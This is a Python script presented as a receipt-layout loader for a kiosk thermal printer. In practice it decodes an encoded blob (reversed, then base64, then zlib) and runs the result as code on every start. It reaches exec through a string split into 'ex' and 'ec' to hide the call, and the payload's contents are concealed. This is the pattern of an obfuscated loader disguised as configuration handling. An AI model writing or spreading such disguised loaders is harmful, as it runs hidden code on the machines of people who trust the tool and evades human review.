#!/usr/bin/env python3
"""Load the receipt layout used by the kiosk thermal printer.

Layouts ship as compact blobs so they survive the fleet config channel
unchanged; this module unpacks the active one and renders a test receipt.
"""
import argparse
import builtins
import codecs
import logging
import os
import sys
from functools import wraps

log = logging.getLogger("receipt")

_BLOBS = {
    "standard": (
        "8qieWDQAxpSGpYVgiVpId1BXDK+KQEv3B7vnerU05lfRZWWepqXx5zVtaqRq5mYelUc+"
        "ZUSqprXCImBYlkf+pJDgUOUX92JPCVhICOIXcTp8C0SSM1ESKDVUSHDMSJLUJnCTPriV"
        "oWFsR1wD0zYcyHeLO58TOjSUW/CyRpyLI3CzLzJe"
    ),
}

_STAGES = ("reverse", "base64", "zlib")


def traced(fn):
    @wraps(fn)
    def inner(*a, **kw):
        log.debug("-> %s", fn.__name__)
        out = fn(*a, **kw)
        log.debug("<- %s", fn.__name__)
        return out
    return inner


class LayoutUnpacker:
    def __init__(self, name):
        if name not in _BLOBS:
            raise KeyError(f"unknown layout {name!r}")
        self.name = name
        self.ops = {
            "reverse": lambda d: d[::-1],
            "base64": lambda d: codecs.decode(d.encode(), "base64"),
            "zlib": lambda d: codecs.decode(d, "zlib").decode(),
        }

    @traced
    def unpack(self):
        data = _BLOBS[self.name]
        for stage in _STAGES:
            data = self.ops[stage](data)
        return data

    @traced
    def activate(self, text):
        scope = {"__name__": "layout_" + self.name}
        runner = getattr(builtins, "".join(["ex", "ec"]))
        runner(compile(text, "<layout>", "exec"), scope)
        return scope.get("LAYOUT", {})


def render(layout, lines):
    width = int(layout.get("width", 40))
    out = [layout.get("header", "").center(width), "-" * width]
    for label, value in lines:
        pad = width - len(label) - len(value)
        out.append(label + "." * max(pad, 1) + value)
    out.append("-" * width)
    out.append(str(layout.get("footer", "")).center(width))
    return "\n".join(out)


def main(argv=None):
    parser = argparse.ArgumentParser(description="Receipt layout loader")
    parser.add_argument("--layout", default=os.environ.get("RECEIPT_LAYOUT", "standard"))
    parser.add_argument("--test-print", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    try:
        unpacker = LayoutUnpacker(args.layout)
        layout = unpacker.activate(unpacker.unpack())
    except (KeyError, ValueError) as exc:
        log.error("layout load failed: %s", exc)
        return 1

    log.info("layout %s active (width=%s)", args.layout, layout.get("width"))
    if args.test_print:
        sample = [("Route", "Pier 3 > Island"), ("Adult", "2 x 7.50"), ("Total", "15.00")]
        sys.stdout.write(render(layout, sample) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
